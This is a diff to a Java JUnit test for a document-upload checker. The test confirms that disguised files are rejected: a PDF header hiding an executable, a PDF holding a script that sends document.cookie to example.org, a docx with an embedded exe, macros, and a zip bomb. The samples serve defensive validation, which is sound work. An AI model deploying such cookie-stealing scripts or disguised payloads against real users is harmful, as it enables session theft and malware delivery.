@@ -1,7 +1,10 @@
 package org.groupeval.evidence;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.apache.poi.xwpf.usermodel.XWPFDocument;
 import org.groupeval.evidence.EvidenceFixture.World;
+import org.groupeval.local.SampleZip;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import software.amazon.awssdk.core.sync.RequestBody;
@@ -9,14 +12,17 @@ import software.amazon.awssdk.services.s3.model.NoSuchKeyException;
 import software.amazon.awssdk.services.s3.model.S3Exception;
 
 import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
 import java.time.Clock;
 import java.time.Duration;
 import java.time.Instant;
 import java.time.ZoneOffset;
-import java.util.zip.ZipEntry;
-import java.util.zip.ZipOutputStream;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Map;
 
 import static org.groupeval.evidence.EvidenceFixture.declaration;
 import static org.groupeval.evidence.EvidenceFixture.pdf;
@@ -66,15 +72,13 @@ class EvidenceUploadTest {
     @Test
     void officeDocumentsAreRecognisedByTheirPartsNotTheirNames() {
         World w = fx.world();
-        byte[] docx = ooxml("word/document.xml");
-        JsonNode word = fx.declared(w, declaration("A02", "plan.docx",
-                "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx));
+        byte[] docx = docx("集团章程");
+        JsonNode word = fx.declared(w, declaration("A02", "plan.docx", DOCX, docx));
         assertEquals(200, fx.upload(word, docx).statusCode());
         assertEquals("VERIFIED", fx.awaitChecked(w, word.get("evidenceId").asText()).get("status").asText());
 
-        byte[] xlsx = ooxml("xl/workbook.xml");
-        JsonNode misnamed = fx.declared(w, declaration("A02", "plan.docx",
-                "application/vnd.openxmlformats-officedocument.wordprocessingml.document", xlsx));
+        byte[] xlsx = xlsx("教师交流名单");
+        JsonNode misnamed = fx.declared(w, declaration("A02", "plan.docx", DOCX, xlsx));
         assertEquals(200, fx.upload(misnamed, xlsx).statusCode());
         JsonNode rejected = fx.awaitChecked(w, misnamed.get("evidenceId").asText());
         assertEquals("REJECTED", rejected.get("status").asText());
@@ -82,12 +86,40 @@ class EvidenceUploadTest {
     }
 
     @Test
+    void filesThatOnlyStartLikeTheirTypeAreRejectedNamingWhatIsWrong() {
+        World w = fx.world();
+        byte[] docx = docx("集团章程");
+        byte[] exe = exe();
+        record Hostile(String name, String contentType, byte[] content, String reason) {
+        }
+        List<Hostile> files = List.of(
+                new Hostile("pdf-then-exe.pdf", "application/pdf", concat(ascii("%PDF-1.7\n"), exe),
+                        "content is not a valid pdf (application/pdf): a Windows executable at byte 9, where a PDF "
+                                + "has only objects"),
+                new Hostile("pdf-then-html.pdf", "application/pdf", ascii("%PDF-1.7\n<html><body><script>"
+                        + "document.location='https://example.org/?'+document.cookie</script></body></html>\n"),
+                        "content is not a valid pdf (application/pdf): HTML with a script at byte 9"),
+                new Hostile("exe-inside.docx", DOCX, SampleZip.withParts(docx, Map.of("word/media/setup.exe", exe)),
+                        "content is not a valid docx (" + DOCX + "): it holds an executable or script part: "
+                                + "word/media/setup.exe"),
+                new Hostile("macros.docx", DOCX, SampleZip.withParts(docx, Map.of("word/vbaProject.bin",
+                        new byte[4096])), "it holds macros (word/vbaProject.bin)"),
+                new Hostile("bomb.docx", DOCX, SampleZip.withParts(docx, Map.of("word/media/image1.png",
+                        new byte[64 * 1024 * 1024])), "(a zip bomb)"));
+        for (Hostile file : files) {
+            JsonNode declared = fx.declared(w, declaration("A12", file.name(), file.contentType(), file.content()));
+            assertEquals(200, fx.upload(declared, file.content()).statusCode(), file.name());
+            JsonNode checked = fx.awaitChecked(w, declared.get("evidenceId").asText());
+            assertEquals("REJECTED", checked.get("status").asText(), file.name() + ": " + checked);
+            assertTrue(checked.get("reason").asText().contains(file.reason()), file.name() + ": " + checked);
+            assertFalse(checked.has("downloadUrl"), "a rejected file is not served");
+        }
+    }
+
+    @Test
     void aPdfThatIsReallyAnExecutableIsRejectedWithTheReason() {
         World w = fx.world();
-        byte[] exe = new byte[2048];
-        exe[0] = 'M';
-        exe[1] = 'Z';
-        exe[60] = (byte) 0x80;
+        byte[] exe = exe();
         JsonNode declared = fx.declared(w, declaration("A03", "会议纪要.pdf", "application/pdf", exe));
         assertEquals(200, fx.upload(declared, exe).statusCode());
         JsonNode checked = fx.awaitChecked(w, declared.get("evidenceId").asText());
@@ -219,21 +251,46 @@ class EvidenceUploadTest {
         return "evidence/" + w.year() + "/" + w.groupId() + "/" + declared.get("evidenceId").asText();
     }
 
-    static byte[] ooxml(String mainPart) {
-        ByteArrayOutputStream out = new ByteArrayOutputStream();
-        try (ZipOutputStream zip = new ZipOutputStream(out)) {
-            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
-            zip.write("<?xml version=\"1.0\"?><Types/>".getBytes(StandardCharsets.UTF_8));
-            zip.closeEntry();
-            zip.putNextEntry(new ZipEntry("_rels/.rels"));
-            zip.write("<Relationships/>".getBytes(StandardCharsets.UTF_8));
-            zip.closeEntry();
-            zip.putNextEntry(new ZipEntry(mainPart));
-            zip.write("<document>内容</document>".getBytes(StandardCharsets.UTF_8));
-            zip.closeEntry();
-        } catch (java.io.IOException e) {
-            throw new IllegalStateException(e);
+    static final String DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
+
+    /** A real Word document (written by Apache POI). */
+    static byte[] docx(String text) {
+        try (XWPFDocument document = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+            document.createParagraph().createRun().setText(text);
+            document.write(out);
+            return out.toByteArray();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
         }
-        return out.toByteArray();
+    }
+
+    /** A real Excel workbook (written by Apache POI). */
+    static byte[] xlsx(String text) {
+        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+            workbook.createSheet("名单").createRow(0).createCell(0).setCellValue(text);
+            workbook.write(out);
+            return out.toByteArray();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** The first bytes of a Windows executable. */
+    static byte[] exe() {
+        byte[] exe = new byte[2048];
+        exe[0] = 'M';
+        exe[1] = 'Z';
+        exe[60] = (byte) 0x80;
+        return exe;
+    }
+
+    static byte[] ascii(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    static byte[] concat(byte[] a, byte[] b) {
+        byte[] joined = Arrays.copyOf(a, a.length + b.length);
+        System.arraycopy(b, 0, joined, a.length, b.length);
+        return joined;
     }
 }
